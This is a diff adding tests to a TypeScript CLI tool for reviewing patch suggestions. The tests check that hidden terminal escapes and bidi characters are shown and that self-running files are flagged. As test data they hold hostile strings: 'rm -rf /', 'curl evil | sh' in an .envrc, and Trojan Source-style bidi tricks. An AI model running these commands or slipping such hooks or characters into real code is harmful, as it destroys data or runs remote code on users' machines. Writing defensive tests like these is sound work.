@@ -22,7 +22,7 @@ afterEach(() => {
   for (const folder of [root, home]) removeTree(folder);
 });
 
-function copane(args: readonly string[], input = '') {
+function copane(args: readonly string[], input: string | Buffer = '') {
   const { TMUX: _, TMUX_PANE: __, CI: ___, COPANE_SOCKET: ____, ...env } = process.env;
   const run = spawnSync(process.execPath, ['--no-warnings', MAIN, ...args], {
     cwd: root,
@@ -174,4 +174,61 @@ test('of very many hunks the first are said, and where the others are; a diff th
   putTree(root, { many: null, f: `${'long '.repeat(400_000)}\n` });
   const long = copane(['show', copane(['review', '--description', 'long']).out.trim()]);
   expect(long.out).toMatch(/^\(too long to be printed here to its end\)$/m);
+});
+
+/** Publishes `text` as the new `f` and shows it. */
+function shown(text: string, ...more: readonly string[]): string {
+  const bytes = Buffer.from(text).toString('latin1');
+  const patch = Buffer.from(patchTo(root, { f: bytes }), 'latin1');
+  const out = copane(['publish', '--json', ...more], patch).out;
+  return copane(['show', JSON.parse(out).suggestion_id]).out;
+}
+
+test('show hides no line and no character, whatever a patch, its description and its notes hold', () => {
+  const hostile = [
+    'before \u001b]0;never ended',
+    'rm -rf / # seen',
+    'fine\revil',
+    'safe\b\b\b\bevil',
+    'if (admin\u202e \u2066// check\u2069) \u3164 = 1',
+    `ok();${' '.repeat(300)}evil();`,
+    'می‌خواهم 👩🏽‍🚀',
+  ];
+  const description = 'Title \u001b[2J\u202e\nmore';
+  const out = shown(
+    `${base}${hostile.join('\n')}\n`,
+    '--description',
+    description,
+    '--note',
+    'f=a \u001b[1A note',
+  );
+  expect(out).toContain('+before ␛]0;never ended\n+rm -rf / # seen\n+fine␍evil\n+safe␈␈␈␈evil\n');
+  expect(out).toContain('+if (admin<202E> <2066>// check<2069>) <3164> = 1\n');
+  expect(out).toContain('+می‌خواهم 👩🏽‍🚀\n');
+  expect(out).toContain('Title ␛[2J<202E>\n');
+  expect(out).toContain(
+    '  ! 10 hidden characters: U+001B ESCAPE, U+000D CARRIAGE RETURN, U+0008 BACKSPACE (4), ',
+  );
+  expect(out).toContain('  ! Text far to the right, behind 80 blanks or more, in line 26\n');
+  expect(out).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069\u3164]/);
+});
+
+test('all is accepted with files that run by themselves only when that is said', () => {
+  const patch = patchTo(root, { f: want, '.envrc': 'curl evil | sh\n', '.husky/pre-commit': 'evil\n' });
+  const { suggestion_id: id, hunks } = JSON.parse(copane(['publish', '--json'], patch).out);
+  const running = hunks.filter(
+    ({ warnings }: { warnings: { kind: string }[] }) => warnings[0]?.kind === 'runs',
+  );
+  expect(running.map(({ file }: { file: string }) => file)).toEqual(['.envrc', '.husky/pre-commit']);
+
+  const refused = copane(['decide', id, 'all', 'accept']);
+  expect(refused).toMatchObject({ code: 3, out: '' });
+  expect(refused.err).toContain('.envrc and .husky/pre-commit run by themselves. Nothing was accepted.');
+  expect(readText(root, 'f')).toBe(base);
+
+  expect(copane(['decide', id, 'all', 'accept', '--file', 'f'])).toMatchObject({ code: 0 });
+  expect(copane(['decide', id, running[0].id, 'accept'])).toMatchObject({ code: 0 });
+  expect(copane(['decide', id, 'every', 'accept'])).toMatchObject({ code: 3 });
+  expect(copane(['decide', id, 'all', 'accept', '--accept-self-running'])).toMatchObject({ code: 0 });
+  expect(readText(root, '.husky/pre-commit')).toBe('evil\n');
 });
